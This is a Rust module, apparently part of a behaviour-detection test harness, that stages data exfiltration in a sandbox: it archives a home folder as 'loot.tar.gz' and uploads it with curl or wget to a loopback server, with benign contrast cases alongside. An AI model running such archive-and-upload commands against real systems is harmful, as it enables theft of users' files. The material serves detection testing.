//! Taking data away: an archive made and sent (to a server of the stage on loopback).

use crate::web::Web;
use crate::{BehaviorError, Performed, Stage};

/// A folder packed and sent with curl.
pub(crate) fn upload_by_curl(stage: &Stage) -> Result<Performed, BehaviorError> {
    pack_and_send(stage, |archive, url| format!("curl -s -T {archive} {url}"))
}

/// A folder packed and sent with wget.
pub(crate) fn upload_by_wget(stage: &Stage) -> Result<Performed, BehaviorError> {
    pack_and_send(stage, |archive, url| format!("wget -q -O /dev/null --post-file={archive} {url}"))
}

/// A folder packed and kept, a short status sent.
pub(crate) fn pack_and_report(stage: &Stage) -> Result<(), BehaviorError> {
    stage.file("home/user/report.txt", "figures\n")?;
    let web = Web::serve(b"ok\n".to_vec())?;
    stage.sh(&format!("tar -czf backup.tar.gz home && curl -s -d status=done {}", web.url("status")))?;
    Ok(())
}

/// A folder packed and kept, a page fetched.
pub(crate) fn pack_and_fetch(stage: &Stage) -> Result<(), BehaviorError> {
    stage.file("home/user/report.txt", "figures\n")?;
    let web = Web::serve(b"ok\n".to_vec())?;
    stage.sh(&format!("tar -czf backup.tar.gz home && wget -q -O /dev/null {}", web.url("status")))?;
    Ok(())
}

fn pack_and_send(stage: &Stage, send: impl FnOnce(&str, &str) -> String) -> Result<Performed, BehaviorError> {
    stage.file("home/user/report.txt", "figures\n")?;
    let web = Web::serve(b"ok\n".to_vec())?;
    let archive = stage.text("loot.tar.gz");
    let script = format!("tar -czf {archive} home && {}", send(&archive, &web.url("upload")));
    let performed = stage.begin();
    let ended = stage.sh(&script)?;
    if web.uploaded() == 0 {
        return Err(BehaviorError::Unexpected { attempt: "send an archive", got: ended.output().to_owned() });
    }
    Ok(performed)
}
